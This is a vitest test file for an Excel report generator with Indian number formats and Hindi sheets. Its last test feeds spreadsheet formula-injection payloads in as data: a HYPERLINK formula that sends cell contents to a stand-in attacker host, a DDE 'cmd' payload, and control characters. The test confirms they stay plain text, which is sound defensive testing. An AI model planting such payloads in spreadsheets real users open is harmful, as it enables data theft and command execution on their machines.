import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import SSF from 'ssf';
import { beforeAll, describe, expect, it } from 'vitest';
import { totals } from '../../src/aggregate/totals.js';
import { defineRegistry } from '../../src/model/registry.js';
import {
  INDIAN_NEGATIVE_FORMAT,
  INDIAN_NUMBER_FORMAT,
  renderXlsxReport,
} from '../../src/visual/xlsx-report.js';
import { snap } from '../fixtures.js';
import { type IndoreFixture, indoreFixture } from './fixture.js';

async function read(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** One file of a zip (an .xlsx), found through the central directory. */
function unzipEntry(zip: Uint8Array, name: string): string {
  const buf = Buffer.from(zip);
  const end = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = buf.readUInt32LE(end + 16);
  const entries = buf.readUInt16LE(end + 10);
  for (let i = 0; i < entries; i++) {
    const method = buf.readUInt16LE(at + 10);
    const size = buf.readUInt32LE(at + 20);
    const nameLength = buf.readUInt16LE(at + 28);
    const extra = buf.readUInt16LE(at + 30);
    const comment = buf.readUInt16LE(at + 32);
    const local = buf.readUInt32LE(at + 42);
    if (buf.toString('utf8', at + 46, at + 46 + nameLength) === name) {
      const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
      const data = buf.subarray(start, start + size);
      return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    at += 46 + nameLength + extra + comment;
  }
  throw new Error(`${name} is not in the zip`);
}

/** A sheet's rows as objects keyed by the header row's labels. */
function rows(sheet: ExcelJS.Worksheet): Record<string, unknown>[] {
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const out: Record<string, unknown>[] = [];
  sheet.eachRow((row, n) => {
    if (n === 1) return;
    const values = (row.values as unknown[]).slice(1);
    out.push(Object.fromEntries(header.map((h, i) => [h, values[i] ?? null])));
  });
  return out;
}

let f: IndoreFixture;
let enBytes: Uint8Array;
let en: ExcelJS.Workbook;
let hi: ExcelJS.Workbook;
beforeAll(async () => {
  f = await indoreFixture();
  enBytes = await renderXlsxReport(f.report, { locale: 'en-IN' });
  en = await read(enBytes);
  hi = await read(await renderXlsxReport(f.report, { locale: 'hi-IN' }));
}, 60_000);

describe('renderXlsxReport (issue #14)', () => {
  it('Indian digit grouping is a number format: 2,03,500 displays, 203500 is the value', () => {
    const shown = (v: number, format: string) => SSF.format(format, v);
    expect(shown(203_500, INDIAN_NUMBER_FORMAT)).toBe('2,03,500');
    expect(shown(12_345_678, INDIAN_NUMBER_FORMAT)).toBe('1,23,45,678');
    expect(shown(99_999, INDIAN_NUMBER_FORMAT)).toBe('99,999');
    expect(shown(0, INDIAN_NUMBER_FORMAT)).toBe('0');
    expect(shown(-203_500, INDIAN_NEGATIVE_FORMAT)).toBe('-2,03,500');
    expect(shown(-500, INDIAN_NEGATIVE_FORMAT)).toBe('-500');
    // As written in the workbook (exceljs drops the backslashes when it reads a format back).
    const styles = unzipEntry(enBytes, 'xl/styles.xml');
    expect(styles).toContain(`formatCode="${INDIAN_NUMBER_FORMAT.replaceAll('>', '&gt;')}"`);
  });

  it('one sheet per section, header row frozen, in English or Hindi', () => {
    expect(en.worksheets.map((w) => w.name)).toEqual([
      'Totals',
      'Ranking',
      'Growth',
      'Series',
      'Coverage',
      'Claims',
    ]);
    expect(hi.worksheets.map((w) => w.name)).toEqual([
      'कुल',
      'क्रम',
      'वृद्धि',
      'समय-क्रम',
      'कवरेज',
      'दावे',
    ]);
    for (const sheet of [...en.worksheets, ...hi.worksheets]) {
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      // printed: A4 landscape, one page wide, the frozen header row on every page
      expect(sheet.pageSetup).toMatchObject({
        paperSize: 9,
        orientation: 'landscape',
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
        printTitlesRow: '1:1',
      });
    }
    const hiTotals = rows(hi.worksheets[0]!);
    expect(hiTotals[0]!.इकाई).toBe('इंदौर जिला प्रशासन');
    expect(hiTotals[0]!.प्लेटफ़ॉर्म).toBe('कुल');
  });

  it('the ranking sheet: a row per entry, each under its column (rank, unit, places)', () => {
    const ranking = rows(en.getWorksheet('Ranking')!);
    const entries = f.report.ranking!.entries;
    expect(ranking).toHaveLength(entries.length);
    entries.forEach((e, i) => {
      const row = ranking[i]!;
      expect(row.Rank).toBe(e.rank);
      expect(row['Unit id']).toBe(e.unit.id);
      expect(row.Platform).toBe('Total');
      const total = f.totals.units.get(e.unit.id)!;
      expect(row.Followers).toBe(total.count.value);
      expect(row.Maximum).toBe(total.count.max);
      expect(row['Best possible place']).toBe(e.best);
      expect(row['Worst possible place']).toBe(e.worst);
    });
  });

  it('its numbers equal totals(), growth() and series() (the same figures as the HTML report)', () => {
    const sheet = en.getWorksheet('Totals')!;
    const all = rows(sheet);
    for (const [id, total] of f.totals.units) {
      const row = all.find((r) => r['Unit id'] === id && r.Platform === 'Total');
      if (!row) continue; // units outside the report's subtree
      expect(row.Followers).toBe(total.count.value);
      expect(row.Minimum).toBe(total.count.min);
      expect(row.Maximum).toBe(total.count.max);
    }
    const admin = all.find((r) => r['Unit id'] === 'indore-admin' && r.Platform === 'Total')!;
    expect(admin.Precision).toBe('range');
    // figures are numbers with the Indian format
    let counted = 0;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      const cell = row.getCell(7);
      if (typeof cell.value === 'number') {
        expect(cell.numFmt).toBe(INDIAN_NUMBER_FORMAT.replaceAll('\\', ''));
        counted += 1;
      }
    });
    expect(counted).toBeGreaterThan(10);
    const growth = rows(en.getWorksheet('Growth')!);
    for (const g of f.report.growth!.units.filter((u) =>
      growth.some((r) => r['Unit id'] === u.unit.id),
    )) {
      const row = growth.find((r) => r['Unit id'] === g.unit.id && r.Platform === 'Total')!;
      expect(row.After).toBe(g.after.value);
      expect(row.Change).toBe(g.change.value);
    }
    const series = rows(en.getWorksheet('Series')!);
    expect(series).toHaveLength(f.weekly.periods.length * 4);
    for (const r of series) {
      const period = f.weekly.periods.find(
        (p) => p.start.getTime() - (r['Period start'] as Date).getTime() === -5.5 * 3_600_000,
      )!;
      expect(r.Followers).toBe(period.units.get(r['Unit id'] as string)!.count.value);
    }
  });

  it('text that looks like a formula stays text; a summary without a figure has no number', async () => {
    const registry = defineRegistry({
      units: [
        { id: 'mp', kind: 'state', name: '=HYPERLINK("http://evil.example/?"&A1,"MP")' },
        { id: 'd', kind: '@SUM(1+1)', name: "-2+3+cmd|' /C calc'!A0", parent: 'mp' },
        { id: 'e', kind: 'district', name: '+1+1\u0007\u202E', parent: 'mp' },
      ],
      accounts: [
        { id: 'a', unit: 'd', platform: 'x', handle: 'a', label: '=1+1' },
        { id: 'b', unit: 'e', platform: 'x', handle: 'b' },
      ],
    });
    const t = totals(registry, [snap('a', 'x', 10, '2026-11-01T00:00:00Z')]);
    const bytes = await renderXlsxReport({ registry, totals: t });
    const book = await read(bytes);
    // No formula anywhere in the sheets' XML.
    for (let n = 1; n <= book.worksheets.length; n++) {
      expect(unzipEntry(bytes, `xl/worksheets/sheet${n}.xml`)).not.toMatch(/<f[ >]/);
    }
    let strings = 0;
    for (const sheet of book.worksheets) {
      sheet.eachRow((row) => {
        row.eachCell({ includeEmpty: false }, (cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') {
            strings += 1;
            expect([...cell.value].some((ch) => ch < ' ' || ch === '\u202E')).toBe(false);
          }
        });
      });
    }
    expect(strings).toBeGreaterThan(10);
    const all = rows(book.getWorksheet('Totals')!);
    expect(all[0]!.Unit).toBe('=HYPERLINK("http://evil.example/?"&A1,"MP")');
    const e = all.find((r) => r['Unit id'] === 'e' && r.Platform === 'Total')!;
    expect(e.Followers).toBeNull();
    expect(e.Precision).toBeNull();
    expect(e['With figures']).toBe(0);
  });
});
